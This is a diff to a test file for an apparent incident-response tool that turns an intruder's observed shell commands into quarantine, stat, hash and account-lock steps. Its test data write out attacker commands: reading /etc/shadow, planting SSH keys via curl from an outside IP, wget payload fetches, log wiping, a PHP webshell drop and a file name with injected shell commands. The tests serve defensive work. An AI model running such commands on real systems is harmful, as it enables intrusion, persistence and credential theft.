@@ -46,7 +46,7 @@ test('isolates in one command, so that nobody cuts himself off half-way', () => 
 
 test('quotes what an attacker named so that a shell reads it as a name', () => {
   const name = `/tmp/a'; touch pwned; $(id) "b`;
-  const facts = { ...toFacts('id'), files: [name] };
+  const facts = { ...toFacts('id'), madeFiles: [name] };
   for (const line of toResponseCommands(RESPONSE_STEP.remove, facts)) {
     const words = execFileSync('sh', ['-c', `printf '%s\\n' ${line}`])
       .toString()
@@ -63,7 +63,7 @@ test('leaves out names that are options, more than one line, or hide something',
       { kind: 'file', time: '', action: 'creation', target: '/tmp/\u202eevil' },
     ],
   });
-  expect(facts.files).toEqual([]);
+  expect(facts.madeFiles).toEqual([]);
   expect(toResponseCommands(RESPONSE_STEP.credentials, facts)).toEqual(['passwd --lock www-data']);
 });
 
@@ -72,4 +72,69 @@ test('has nothing to run where nothing is known', () => {
   for (const step of Object.values(RESPONSE_STEP).filter((one) => one !== RESPONSE_STEP.isolate)) {
     expect(toResponseCommands(step, facts)).toEqual([]);
   }
+});
+
+const removing = (script: string, part: object = {}): readonly string[] =>
+  toResponseCommands(RESPONSE_STEP.remove, toFacts(script, part));
+
+test.each([
+  'cat /etc/passwd /etc/shadow > /dev/null',
+  'cp /etc/shadow /tmp',
+  'cat /tmp/../etc/passwd',
+  'ls -la /tmp/ /var/tmp /dev/shm',
+  'cat /var/www/html/config.php',
+  'python3 /usr/lib/x.py',
+])('never offers root to take away what was only read: %s', (script) => {
+  expect(
+    removing(script).filter((line) => line.startsWith('mv ') && !line.includes('/tmp/shadow'))
+  ).toEqual([]);
+});
+
+test.each([
+  ['echo x >> /etc/passwd', '/etc/passwd'],
+  ['cp /tmp/a /usr/sbin/sshd', '/usr/sbin/sshd'],
+  ['curl http://203.0.113.9/k >> /var/www/.ssh/authorized_keys', '/var/www/.ssh/authorized_keys'],
+  [': > /var/log/auth.log', '/var/log/auth.log'],
+])('has a changed file of the machine looked at, not moved: %s', (script, path) => {
+  const lines = removing(script);
+  expect(lines).toContain(`stat -- ${path}`);
+  expect(lines.join('\n')).not.toContain(`mv -n -- ${path} `);
+});
+
+test('takes away what the intruder wrote, where his words or a file event say so', () => {
+  const activities = [
+    { kind: 'file', time: '', action: 'creation', target: '/srv/www/up/x.php' },
+    { kind: 'file', time: '', action: 'creation', target: '/etc/cron.d/x' },
+    { kind: 'file', time: '', action: 'modification', target: '/srv/www/index.php' },
+    { kind: 'file', time: '', action: 'deletion', target: '/srv/www/old.php' },
+  ];
+  const lines = removing('echo "<?php" > img/.c.php; wget -O /opt/app/m http://203.0.113.9/m', {
+    workingDirectory: '/srv/www',
+    activities,
+  });
+  expect(lines.filter((line) => !line.startsWith('sha256sum'))).toEqual([
+    'mv -n -- /srv/www/img/.c.php /srv/www/img/.c.php.quarantine',
+    'mv -n -- /opt/app/m /opt/app/m.quarantine',
+    'mv -n -- /srv/www/up/x.php /srv/www/up/x.php.quarantine',
+    'stat -- /etc/cron.d/x',
+    'stat -- /srv/www/index.php',
+  ]);
+});
+
+test('moves a folder whole, after what is in it was hashed', () => {
+  expect(
+    removing('mkdir /var/tmp/.ice && wget -O /var/tmp/.ice/bioset http://203.0.113.9/b')
+  ).toEqual([
+    'sha256sum -- /var/tmp/.ice/bioset',
+    'mv -n -- /var/tmp/.ice /var/tmp/.ice.quarantine',
+  ]);
+});
+
+test('restricts only accounts that commands ran as, and locks those they name too', () => {
+  const facts = toFacts('useradd -m -s /bin/bash support');
+  expect(toResponseCommands(RESPONSE_STEP.restrict, facts)).toHaveLength(1);
+  expect(toResponseCommands(RESPONSE_STEP.credentials, facts)).toEqual([
+    'passwd --lock www-data',
+    'passwd --lock support',
+  ]);
 });
